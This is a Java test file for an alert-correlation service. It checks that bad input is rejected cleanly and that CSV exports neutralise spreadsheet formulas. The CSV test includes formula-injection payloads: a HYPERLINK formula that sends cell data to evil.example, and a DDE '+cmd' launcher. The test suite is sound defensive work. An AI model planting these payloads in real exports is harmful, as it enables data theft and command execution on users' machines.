package org.alertcorrelator.service;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

import org.alertcorrelator.engine.Replay;
import org.alertcorrelator.ingest.RecordError;
import org.alertcorrelator.ruleset.RuleSet;
import org.alertcorrelator.service.TestService.Response;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.JsonNode;

/**
 * The service tried as an attacker would: oversized fields, times out of range or far ahead, formula cells, bad
 * URLs and headers. Each bad record is rejected on its own (index, line, field) and harms no other request; no
 * answer shows SQL, a class name or a stack trace; replay rejects the same records with the same message.
 */
class HardeningApiTest {
    @TempDir
    static Path dir;
    static TestService svc;

    @BeforeAll
    static void start() throws Exception {
        svc = TestService.start(dir);
    }

    @AfterAll
    static void stop() {
        svc.close();
    }

    static String alert(String id, String tenant, String time, String name) {
        return "{\"TenantId\":\"" + tenant + "\",\"SystemAlertId\":\"" + id + "\",\"AlertName\":\"" + name + "\","
                + "\"AlertSeverity\":\"Low\",\"StartTime\":\"" + time + "\",\"Status\":\"New\"}";
    }

    static void assertClean(Response r) {
        String b = r.body();
        for (String bad : new String[] {"SELECT", "INSERT", "Exception", "org.", "java.", "\tat ", "<html"}) {
            assertFalse(b.contains(bad), "answer shows " + bad + ": " + b);
        }
    }

    @Test
    void anOversizedFieldIsRejectedOnItsOwnAndNeverFailsOtherRequests() throws Exception {
        String longId = "x".repeat(600);
        String longTenant = "t".repeat(300);
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            List<Future<Response>> good = new ArrayList<>();
            Future<Response> bad = pool.submit(() -> svc.post("/api/alerts", TestService.INGEST, "application/x-ndjson",
                    alert(longId, "t1", "2024-03-04T08:00:00Z", "a") + "\n" + alert("ok-0", longTenant, "2024-03-04T08:00:00Z", "a")
                            + "\n" + alert("ok-1", "t1", "2024-03-04T08:00:00Z", "a") + "\n"));
            for (int i = 0; i < 30; i++) {
                int n = i;
                good.add(pool.submit(() -> svc.post("/api/alerts", TestService.INGEST, "application/x-ndjson",
                        alert("good-" + n, "t1", "2024-03-04T08:00:00Z", "a"))));
            }
            Response b = bad.get();
            assertEquals(202, b.status(), b.toString());
            assertEquals(1, b.json().path("accepted").asInt(), b.toString());
            JsonNode errors = b.json().path("errors");
            assertEquals(2, errors.size(), b.toString());
            assertEquals("SystemAlertId", errors.get(0).path("field").asText());
            assertEquals(1, errors.get(0).path("index").asInt());
            assertEquals(1, errors.get(0).path("line").asInt());
            assertTrue(errors.get(0).path("reason").asText().contains("over the limit of 512"), b.toString());
            assertEquals("TenantId", errors.get(1).path("field").asText());
            assertEquals(2, errors.get(1).path("index").asInt());
            assertClean(b);
            for (Future<Response> f : good) assertEquals(202, f.get().status(), f.get().toString());
        } finally {
            pool.shutdown();
        }
    }

    @Test
    void timesOutOfRangeOrFarAheadAreRecordErrorsNeverExceptions() throws Exception {
        String body = String.join("\n",
                alert("time-1", "t1", "0001-01-01T00:00:00Z", "dotnet placeholder"),
                alert("time-2", "t1", "1969-12-31T23:59:59Z", "before 1970"),
                alert("time-3", "t1", "2300-01-01T00:00:00Z", "past 2262"),
                alert("time-4", "t1", "2099-01-01T00:00:00Z", "far ahead of the clock"),
                alert("time-5", "t1", "2024-03-04T08:00:00Z", "good")) + "\n";
        Response r = svc.post("/api/alerts", TestService.INGEST, "application/x-ndjson", body);
        assertEquals(202, r.status(), r.toString());
        assertEquals(1, r.json().path("accepted").asInt(), r.toString());
        JsonNode errors = r.json().path("errors");
        assertEquals(4, errors.size(), r.toString());
        for (int i = 0; i < 4; i++) assertEquals(i + 1, errors.get(i).path("index").asInt(), r.toString());
        assertEquals("StartTime", errors.get(0).path("field").asText(), r.toString());
        assertTrue(errors.get(3).path("reason").asText().contains("max-clock-skew"), r.toString());
        assertClean(r);
        // none of them reached the store or the engine's clock
        for (int i = 1; i <= 4; i++) assertEquals(404, svc.get("/api/alerts/time-" + i, TestService.ADMIN).status());
        assertEquals(200, svc.get("/api/alerts/time-5", TestService.ADMIN).status());

        // replay rejects the same records with the same messages and goes on
        Path file = dir.resolve("times.jsonl");
        Files.writeString(file, body);
        Replay.Result replay = Replay.run(RuleSet.load(Path.of("rules")), List.of(file), false);
        List<String> replayReasons = replay.errors().stream().map(RecordError::message).toList();
        for (int i = 0; i < 3; i++) {
            assertEquals(errors.get(i).path("reason").asText(), replayReasons.get(i), replayReasons.toString());
        }
        assertEquals(3, replay.errors().size(), replayReasons.toString()); // 2099 is in range for replay (no wall clock)
    }

    @Test
    void timeFiltersOutOfRangeAre400() throws Exception {
        for (String q : new String[] {"since=%2B1000000000-01-01T00:00:00Z", "until=99999999999999999999",
                "updatedSince=-99999999999999999", "since=9999999999999999"}) {
            for (String path : new String[] {"/api/incidents?", "/api/alerts?", "/api/incidents.csv?", "/api/alerts.csv?"}) {
                if (q.startsWith("updatedSince") && path.startsWith("/api/alerts")) continue; // an incident filter
                Response r = svc.get(path + q, TestService.ANALYST);
                assertEquals(400, r.status(), path + q + ": " + r.toString().substring(0, Math.min(300, r.toString().length())));
                assertTrue(r.body().startsWith("{\"error\":"), r.toString());
                assertClean(r);
            }
        }
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAreNeutralised() throws Exception {
        String name = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")";
        Response r = svc.post("/api/alerts", TestService.INGEST, "application/x-ndjson",
                alert("formula-1", "t-csv", "2024-03-04T08:00:00Z", name) + "\n"
                        + alert("formula-2", "t-csv", "2024-03-04T08:00:01Z", "+cmd|' /C calc'!A0") + "\n"
                        + alert("formula-3", "t-csv", "2024-03-04T08:00:02Z", "@SUM(1)") + "\n"
                        + alert("formula-4", "t-csv", "2024-03-04T08:00:03Z", "-2+3") + "\n");
        assertEquals(4, r.json().path("accepted").asInt(), r.toString());
        String csv = svc.get("/api/alerts.csv?tenant=t-csv", TestService.ANALYST).body();
        assertTrue(csv.contains("'=HYPERLINK"), csv);
        assertTrue(csv.contains("'+cmd"), csv);
        assertTrue(csv.contains("'@SUM"), csv);
        assertTrue(csv.contains("'-2+3"), csv);
        for (String line : csv.split("\r?\n")) {
            for (String cell : line.split(",")) {
                String c = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertFalse(!c.isEmpty() && "=+@".indexOf(c.charAt(0)) >= 0, "formula cell left: " + cell + " in " + line);
            }
        }
        StringBuilder out = new StringBuilder();
        org.alertcorrelator.export.IncidentCsv.write(List.of(new org.alertcorrelator.model.Incident("i", "t", "=1+1",
                "@d", org.alertcorrelator.model.IncidentKind.KillChain, org.alertcorrelator.model.Severity.LOW, "New",
                List.of(), List.of("a"), List.of(), java.time.Instant.EPOCH, java.time.Instant.EPOCH, List.of(), List.of(),
                null, "rule")), out);
        assertTrue(out.toString().contains(",'=1+1,") && out.toString().contains("'@d"), out.toString());
    }

    @Test
    void jettysOwnErrorsAreJson() throws Exception {
        int port = svc.base().getPort();
        String nul = raw(port, "GET /api/inc%00idents HTTP/1.1\r\nHost: x\r\n\r\n");
        String longUrl = raw(port, "GET /api/incidents?q=" + "a".repeat(20_000) + " HTTP/1.1\r\nHost: x\r\n\r\n");
        String bigHeader = raw(port, "GET /health HTTP/1.1\r\nHost: x\r\nX-Big: " + "b".repeat(20_000) + "\r\n\r\n");
        String badRequestLine = raw(port, "GARBAGE\r\n\r\n");
        for (String answer : new String[] {nul, longUrl, bigHeader, badRequestLine}) {
            String status = answer.lines().findFirst().orElse("");
            assertTrue(status.matches("HTTP/1\\.1 4\\d\\d.*"), answer);
            assertTrue(answer.toLowerCase().contains("content-type: application/json"), answer);
            String body = answer.substring(answer.indexOf("\r\n\r\n") + 4);
            assertTrue(body.startsWith("{\"error\":"), answer);
            assertFalse(body.contains("<html") || body.contains("Exception") || body.contains("\tat "), answer);
        }
        assertTrue(longUrl.startsWith("HTTP/1.1 414"), longUrl);
        assertTrue(bigHeader.startsWith("HTTP/1.1 431"), bigHeader);
    }

    private static String raw(int port, String request) throws Exception {
        try (Socket s = new Socket(InetAddress.getLoopbackAddress(), port)) {
            s.setSoTimeout(5000);
            OutputStream out = s.getOutputStream();
            out.write(request.getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            InputStream in = s.getInputStream();
            byte[] buf = new byte[8192];
            StringBuilder b = new StringBuilder();
            try {
                int n;
                while ((n = in.read(buf)) > 0) {
                    b.append(new String(buf, 0, n, StandardCharsets.ISO_8859_1));
                    int head = b.indexOf("\r\n\r\n");
                    if (head > 0) {
                        int cl = b.toString().toLowerCase().indexOf("content-length: ");
                        if (cl > 0 && cl < head) {
                            int len = Integer.parseInt(b.substring(cl + 16, b.indexOf("\r\n", cl)).trim());
                            if (b.length() >= head + 4 + len) break;
                        }
                    }
                }
            } catch (java.net.SocketTimeoutException | java.net.SocketException e) {
                // what came is the answer
            }
            return b.toString();
        }
    }
}
